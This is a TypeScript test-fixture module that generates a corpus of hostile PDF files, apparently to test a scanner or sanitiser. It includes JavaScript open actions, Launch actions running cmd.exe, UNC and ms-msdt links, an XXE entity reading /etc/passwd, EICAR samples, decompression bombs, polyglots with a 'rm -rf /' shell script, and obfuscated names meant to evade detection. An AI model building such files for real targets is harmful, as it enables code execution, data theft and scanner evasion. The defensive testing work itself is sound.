import { deflateSync } from 'node:zlib';
import { eicar } from './fake-clamd.ts';
import { type CorpusFile, latin1 } from './file-builders.ts';
import {
  encryptedPdf,
  flateStream,
  hybridPdf,
  type PdfParts,
  packedPdf,
  packings,
  plainPdf,
  streamOf,
  updatedPdf,
} from './pdf-builder.ts';
import { zipArchive } from './zip-archive.ts';

const link = (action: string) => `<< /Type /Annot /Subtype /Link /Rect [0 0 99 99] /A << ${action} >> >>`;
const field = (entries: string) =>
  `<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /Rect [0 0 9 9] ${entries} >>`;
const attached = (name: string, content: Buffer | string): PdfParts => ({
  catalog: `/Names << /EmbeddedFiles << /Names [(${name}) 10 0 R] >> >>`,
  objects: {
    10: `<< /Type /Filespec /F (${name}) /UF (${name}) /EF << /F 11 0 R /UF 11 0 R >> >>`,
    11: flateStream('/Type /EmbeddedFile', content),
  },
});
const script = '/S /JavaScript /JS (app.alert\\(1\\))';

/** Contents that an attacker puts into a PDF, told apart by where they stand or how they work. */
const features: Readonly<Record<string, PdfParts>> = {
  'a script on opening': { catalog: `/OpenAction << ${script} >>` },
  'a script in an object of its own': { catalog: '/OpenAction 10 0 R', objects: { 10: `<< ${script} >>` } },
  'a script whose text is a stream': {
    catalog: '/OpenAction << /S /JavaScript /JS 10 0 R >>',
    objects: { 10: flateStream('', 'app.alert(1)') },
  },
  'a script in the tree of names': {
    catalog: '/Names << /JavaScript << /Kids [10 0 R] >> >>',
    objects: { 10: '<< /Limits [(a) (a)] /Names [(a) 11 0 R] >>', 11: `<< ${script} >>` },
  },
  'a script when the page shows': { page: `/AA << /O << ${script} >> >>` },
  'a script when the document closes': { catalog: `/AA << /WC << ${script} >> >>` },
  'a script in a form field': {
    catalog: '/AcroForm << /Fields [10 0 R] >>',
    objects: { 10: field(`/AA << /K << ${script} >> >>`) },
  },
  'a script behind a bookmark': {
    catalog: '/Outlines 10 0 R',
    objects: {
      10: '<< /Type /Outlines /First 11 0 R /Last 11 0 R >>',
      11: `<< /Title (a) /Parent 10 0 R /A << ${script} >> >>`,
    },
  },
  'a script behind a link': { annotations: [link(script)] },
  'a script after a page turn': {
    catalog: `/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [<< /S /GoTo /D [3 0 R /Fit] /Next << ${script} >> >>] >>`,
  },
  'a script that nothing leads to': { objects: { 10: `<< ${script} >>` } },
  'a script that a rendition runs': {
    annotations: ['<< /Subtype /Screen /A << /S /Rendition /OP 0 /JS (app.alert\\(1\\)) >> >>'],
  },
  'a kind of action named elsewhere': {
    catalog: '/OpenAction << /S 10 0 R /JS 11 0 R >>',
    objects: { 10: '/JavaScript', 11: '(app.alert\\(1\\))' },
  },
  'a web address on opening': { catalog: '/OpenAction << /S /URI /URI (https://elsewhere.example/?seen) >>' },
  'a web address when the page shows': {
    page: '/AA << /O << /S /URI /URI (https://elsewhere.example/) >> >>',
  },
  'a web address when the pointer passes': {
    annotations: [field('/AA << /E << /S /URI /URI (https://elsewhere.example/) >> >>')],
  },
  'a web address after a page turn': {
    catalog:
      '/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (https://elsewhere.example/) >> >>',
  },
  'a form that sends': {
    annotations: [field('/A << /S /SubmitForm /F << /FS /URL /F (https://elsewhere.example/) >> >>')],
  },
  'a form that sends on opening': {
    catalog: '/OpenAction << /S /SubmitForm /F (https://elsewhere.example/) /Flags 4 >>',
  },
  'a form that takes data from a file': { annotations: [link('/S /ImportData /F (data.fdf)')] },
  'a program that starts': { annotations: [link('/S /Launch /F (calc.exe)')] },
  'a program for Windows that starts': {
    catalog: '/OpenAction << /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>',
  },
  'a file of another computer': {
    annotations: [link('/S /GoToR /F (\\\\\\\\host.example\\\\share\\\\a.pdf) /D [0 /Fit]')],
  },
  'a file of another computer, on opening': {
    catalog: '/OpenAction << /S /GoToR /F (\\\\\\\\host.example\\\\a.pdf) /D [0 /Fit] >>',
  },
  'a file of another computer, in two steps': {
    annotations: [link('/S /GoToR /F 10 0 R /D [0 /Fit]')],
    objects: { 10: '<< /Type /Filespec /F (//host.example/share/a.pdf) >>' },
  },
  'a link to a file': { annotations: [link('/S /URI /URI (file:///C:/Windows/System32/calc.exe)')] },
  'a link to another computer': { annotations: [link('/S /URI /URI (\\\\\\\\host.example\\\\share)')] },
  'a link in hexadecimal to another computer': {
    annotations: [link('/S /URI /URI <5c5c686f73742e6578616d706c65>')],
  },
  'a link to a tool of Windows': { annotations: [link('/S /URI /URI (ms-msdt:/id PCWDiagnostic)')] },
  'a link that is a script': { annotations: [link('/S /URI /URI (java\\nscript:alert\\(1\\))')] },
  'a base address of files': { catalog: '/URI << /Base (file://host.example/) >>' },
  'a program attached': attached('invoice.exe', Buffer.concat([latin1('MZ'), Buffer.alloc(300)])),
  'a program attached as XML': attached('factur-x.xml', Buffer.concat([latin1('MZ'), Buffer.alloc(300)])),
  'a page attached as XML': attached('factur-x.xml', '<html><script>alert(1)</script></html>'),
  'an invoice attached as a program': attached('factur-x.xml.hta', '<Invoice/>'),
  'an invoice with entities attached': attached(
    'factur-x.xml',
    '<!DOCTYPE Invoice [<!ENTITY a SYSTEM "file:///etc/passwd">]><Invoice>&a;</Invoice>',
  ),
  'an invoice with a style sheet attached': attached(
    'factur-x.xml',
    '<?xml-stylesheet href="https://elsewhere.example/a.xsl"?><Invoice/>',
  ),
  'an archive attached': attached('a.zip', zipArchive([{ name: 'a.js', content: 'x' }])),
  'another PDF attached': attached('a.pdf', plainPdf({})),
  'malware attached': attached('eicar.com', eicar),
  'malware on a page': { objects: { 10: streamOf('', eicar) } },
  'malware packed on a page': { objects: { 10: flateStream('', eicar) } },
  'a program attached to a page': {
    annotations: ['<< /Subtype /FileAttachment /Rect [0 0 9 9] /FS 10 0 R >>'],
    objects: attached('a.scr', 'MZ').objects ?? {},
  },
  'an attached PDF that opens': {
    ...attached('a.pdf', plainPdf({})),
    annotations: [link('/S /GoToE /T << /R /C /N (a.pdf) >>')],
  },
  'a Flash film': {
    annotations: ['<< /Subtype /RichMedia /RichMediaContent 10 0 R /Rect [0 0 9 9] >>'],
    objects: { 10: '<< /Assets << /Names [] >> /Configurations [] >>' },
  },
  'a 3D model': {
    annotations: ['<< /Subtype /3D /3DD 10 0 R /Rect [0 0 9 9] >>'],
    objects: { 10: streamOf('/Type /3D /Subtype /U3D', 'U3D') },
  },
  'a film': { annotations: ['<< /Subtype /Movie /Movie << /F (a.avi) >> /Rect [0 0 9 9] >>'] },
  'a sound': {
    annotations: [link('/S /Sound /Sound 10 0 R')],
    objects: { 10: streamOf('/Type /Sound /R 8000', 'x') },
  },
  'an XFA form': {
    catalog: '/AcroForm << /Fields [] /XFA 10 0 R >>',
    objects: { 10: flateStream('', '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template/></xdp:xdp>') },
  },
  'an XFA form in parts': {
    catalog: '/AcroForm << /Fields [] /XFA [(template) 10 0 R] >>',
    objects: { 10: flateStream('', '<template/>') },
  },
  'a print of itself': { catalog: '/OpenAction << /S /Named /N /Print >>' },
  'a menu command of the reader': { annotations: [link('/S /Named /N /SaveAs')] },
  'a picture in another file': {
    page: '/Thumb 10 0 R',
    objects: { 10: streamOf('/Subtype /Image /Width 9 /Height 9 /F (\\\\\\\\host.example\\\\a)', '') },
  },
  'content from a web address': {
    page: '/Thumb 10 0 R',
    objects: {
      10: streamOf(
        '/Subtype /Image /Width 9 /Height 9 /F << /FS /URL /F (https://elsewhere.example/) >>',
        '',
      ),
    },
  },
  'a page of another file': {
    page: '/Thumb 10 0 R',
    objects: {
      10: streamOf(
        '/Subtype /Form /BBox [0 0 9 9] /Ref << /F (\\\\\\\\host.example\\\\a.pdf) /Page 0 >>',
        '',
      ),
    },
  },
  'a program in PostScript': {
    page: '/Thumb 10 0 R',
    objects: { 10: streamOf('/Type /XObject /Subtype /PS', '(%pipe%calc) (r) file') },
  },
  'a huge picture': {
    page: '/Thumb 10 0 R',
    objects: {
      10: flateStream(
        '/Subtype /Image /Width 60000 /Height 60000 /BitsPerComponent 8 /ColorSpace /DeviceGray',
        'x',
      ),
    },
  },
};

const flate = packings['flate'] as (typeof packings)[string];

/** The ways in which a PDF holds its objects; the features go through each. */
const carriers: Readonly<Record<string, (parts: PdfParts) => Buffer | Promise<Buffer>>> = {
  plain: plainPdf,
  packed: (parts) => packedPdf(parts, flate, '/Type /ObjStm', true),
  'with an update': updatedPdf,
  encrypted: (parts) => encryptedPdf(plainPdf(parts), 'AES-128'),
};

/** PDF files an attacker would send. */
export async function hostilePdfs(): Promise<CorpusFile[]> {
  const files: CorpusFile[] = [];
  const add = (name: string, content: Buffer) => files.push({ name: `pdf with ${name}`, content });
  for (const [feature, parts] of Object.entries(features)) {
    for (const [carrier, make] of Object.entries(carriers)) add(`${feature}, ${carrier}`, await make(parts));
  }
  const scripted: PdfParts = { catalog: '/OpenAction 10 0 R', objects: { 10: `<< ${script} >>` } };
  for (const [name, packing] of Object.entries(packings))
    add(`a script packed with ${name}`, packedPdf(scripted, packing));
  add('a script in a packed stream of no type', packedPdf(scripted, flate, ''));
  add('a script in a packed stream of another type', packedPdf(scripted, flate, '/Type /XObject'));
  add('a script behind a hybrid table', hybridPdf(scripted));
  add('a script before an update removed it', updatedPdf({ objects: { 10: 'null' } }, scripted));
  for (const algorithm of ['RC4-40', 'RC4-128', 'AES-256'] as const) {
    add(`a script, encrypted by ${algorithm}`, await encryptedPdf(plainPdf(scripted), algorithm));
    add(`a password, encrypted by ${algorithm}`, await encryptedPdf(plainPdf({}), algorithm, 'secret'));
  }
  for (const [name, hidden] of [
    ['every letter', '/#4a#61#76#61#53#63#72#69#70#74'],
    ['one letter in capitals', '/JavaScr#69pt'],
    ['its first letter', '/#4AavaScript'],
  ] as const)
    add(`a script whose name hides ${name}`, plainPdf({ catalog: `/OpenAction << /S ${hidden} /JS (x) >>` }));
  add(
    'a script whose keys are hidden',
    plainPdf({ catalog: '/Open#41ction << /#53 /JavaScript /#4aS (x) >>' }),
  );
  add(
    'a script between comments',
    plainPdf({ catalog: '/OpenAction%x\n<<%>>\n/S%/GoTo\n/JavaScript /JS(x)>>' }),
  );
  add('two kinds for one action', plainPdf({ catalog: '/OpenAction << /S /JavaScript /JS (x) /S /GoTo >>' }));
  add('a script in a trailer', plainPdf({ trailer: `/Extra << ${script} >>` }));
  add(
    'packed objects without an end',
    latin1(packedPdf(scripted, flate).toString('latin1').replace('/N ', '/N 9')),
  );
  add(
    'packed objects in a way nobody knows',
    packedPdf(scripted, { filter: '/MyDecode', pack: (all) => all }),
  );
  add(
    'packed objects that are damaged',
    packedPdf(scripted, { ...flate, pack: (all) => deflateSync(all).subarray(3) }),
  );
  add(
    'packed objects within packed objects',
    packedPdf({ objects: { 10: '<< /N 1 /First 4 /Length 9 >>\nstream 12 0 (x) endstream' } }, flate),
  );

  const place = (content: Buffer, word: string) => content.indexOf(word);
  const hiding = `(x) Tj\n10 0 obj\n<< ${script} >>\nendobj\n`;
  const within = plainPdf({
    catalog: '/OpenAction 10 0 R',
    content: hiding,
    objects: { 10: '<< /S /GoTo /D [3 0 R /Fit] >>' },
  });
  const misled = within
    .toString('latin1')
    .replace(/(10 1\n)\d{10}/, `$1${String(place(within, '10 0 obj')).padStart(10, '0')}`);
  add('a script in the text of a page, which the table points at', latin1(misled));
  add(
    'a script in the text of a page, and a broken table',
    latin1(within.toString('latin1').replace(/startxref\n\d+/, 'startxref\n7')),
  );
  add(
    'a script in a comment that the table points at',
    latin1(
      plainPdf({ catalog: '/OpenAction 10 0 R' })
        .toString('latin1')
        .replace('%\xe2\xe3\xcf\xd3\n', `%10 0 obj << ${script} >> endobj\n`),
    ),
  );
  const commented = plainPdf({
    catalog: '/OpenAction 90 0 R',
    objects: { 10: `[1]\n% 90 0 obj << ${script} >> endobj\n` },
  });
  add(
    'a script in a comment behind an object, which the table points at',
    latin1(
      commented
        .toString('latin1')
        .replace(
          'trailer',
          `90 1\n${String(place(commented, '90 0 obj')).padStart(10, '0')} 00000 n \ntrailer`,
        ),
    ),
  );
  add(
    'a script in a comment, and a broken table',
    latin1(commented.toString('latin1').replace(/startxref\n\d+/, 'startxref\n7')),
  );
  add(
    'a script in a trailer behind a comment',
    plainPdf({ trailer: `% trailer <<\n/Extra << ${script} >>` }),
  );
  add(
    'a script in a tree of names elsewhere',
    plainPdf({
      catalog: '/Names << /JavaScript 10 0 R >>',
      objects: { 10: '<< /Names 11 0 R >>', 11: '[(a) 12 0 R]', 12: '<< /JS (app.alert\\(1\\)) >>' },
    }),
  );
  add(
    'a script whose object has no end',
    latin1(plainPdf(scripted).toString('latin1').replaceAll('endobj', '')),
  );
  add(
    'a script without a table',
    latin1(
      plainPdf(scripted)
        .toString('latin1')
        .replace(/xref[\s\S]*$/, 'trailer << /Root 1 0 R >>\n%%EOF\n'),
    ),
  );

  add(
    'packed objects that fill the memory',
    packedPdf({}, { filter: '[/FlateDecode]', pack: () => deflateSync(Buffer.alloc(80_000_000)) }),
  );
  add(
    'packed objects that fill the memory in two steps',
    packedPdf(
      {},
      {
        filter: '[/FlateDecode /FlateDecode]',
        pack: () => deflateSync(deflateSync(Buffer.alloc(200_000_000))),
      },
    ),
  );
  add(
    'a page that fills the memory',
    plainPdf({
      objects: { 10: streamOf('/Filter /FlateDecode', deflateSync(Buffer.alloc(560_000_000), { level: 1 })) },
    }),
  );
  add(
    'a picture that fills the memory in two steps',
    plainPdf({
      objects: {
        10: streamOf(
          '/Filter [/FlateDecode /FlateDecode]',
          deflateSync(deflateSync(Buffer.alloc(200_000_000))),
        ),
      },
    }),
  );
  add('an invoice that fills the memory', plainPdf(attached('factur-x.xml', Buffer.alloc(50_000_000, ' '))));
  add('brackets without an end', plainPdf({ objects: { 10: '['.repeat(100_000) } }));
  add('dictionaries in dictionaries', plainPdf({ objects: { 10: '<</A'.repeat(50_000) } }));
  add(
    'an object that is itself',
    plainPdf({ catalog: '/OpenAction 10 0 R', objects: { 10: '10 0 R' } }).subarray(0, -30),
  );

  const whole = plainPdf({ objects: { 10: '<< /A 1 >>' } });
  for (const share of [0.2, 0.4, 0.6, 0.8, 0.95])
    add(`its end cut off after ${share * 100} %`, whole.subarray(0, Math.floor(whole.length * share)));
  add('its pages missing', latin1(whole.toString('latin1').replace('2 0 obj', '70 0 obj')));
  add('a page missing', latin1(whole.toString('latin1').replace('3 0 obj', '70 0 obj')));
  add('its own end and half an update', Buffer.concat([whole, latin1('10 0 obj\n<< /A (x')]));
  add(
    'a lock of another maker',
    latin1(
      whole
        .toString('latin1')
        .replace('/Root 1 0 R', '/Root 1 0 R /Encrypt << /Filter /Adobe.PubSec /V 4 >>'),
    ),
  );

  const archive = zipArchive([{ name: 'a.js', content: 'x' }]);
  add('an archive behind it', Buffer.concat([whole, archive]));
  add(
    'an archive before its end',
    Buffer.concat([whole.subarray(0, -6), latin1('\n%'), archive, latin1('\n%%EOF\n')]),
  );
  add('an archive within a stream', plainPdf({ objects: { 10: streamOf('', archive) } }));
  for (const [name, start] of Object.entries({
    'a program of Windows': 'MZ\x90\0\x03\0\0\0',
    'a program of Linux': '\x7fELF\x02\x01\x01\0',
    'a script of a shell': '#!/bin/sh\nrm -rf /\nexit\n',
    'a script of Windows': '@echo off\r\nstart calc\r\nexit\r\n',
    'a picture': 'GIF89a\x01\0\x01\0',
    'a picture of Windows': 'BM\x36\0\0\0\0\0\0\0',
    'an archive of Java': '\xca\xfe\xba\xbe\0\0\0\x34',
    'a page': '<!doctype html><script>alert(1)</script>',
    'a half page': '<body onload=alert(1)>',
  }))
    add(`${name} before it`, Buffer.concat([latin1(start), whole]));
  for (const [name, foreign] of Object.entries({
    'a program of Windows': 'MZ\x90\0\x03\0\0\0This program cannot be run in DOS mode.PE\0\0',
    'a program of Linux': '\x7fELF\x02\x01\x01\0',
    'a program of macOS': '\xcf\xfa\xed\xfe\x07\0\0\x01',
    'a RAR archive': 'Rar!\x1a\x07\x01\0',
    'a 7z archive': '7z\xbc\xaf\x27\x1c\0\x04',
    'a gzip archive': '\x1f\x8b\x08\0\0\0\0\0',
    'a script of a shell': '#!/bin/sh\nrm -rf /\n',
    'a script of Windows': '@echo off\r\nstart calc\r\n',
  })) {
    add(`${name} behind it`, Buffer.concat([whole, latin1(foreign)]));
    add(
      `padding and ${name} behind it`,
      Buffer.concat([whole, latin1(`\n% end\n${'\0'.repeat(5_000)}${foreign}`)]),
    );
    add(
      `${name} behind it and an end behind that`,
      Buffer.concat([whole, latin1(`${foreign}\nstartxref\n0\n%%EOF\n`)]),
    );
  }
  add('malware behind it', Buffer.concat([whole, eicar]));
  add('more than a kilobyte before it', Buffer.concat([latin1(' '.repeat(1_025)), whole]));
  return files;
}
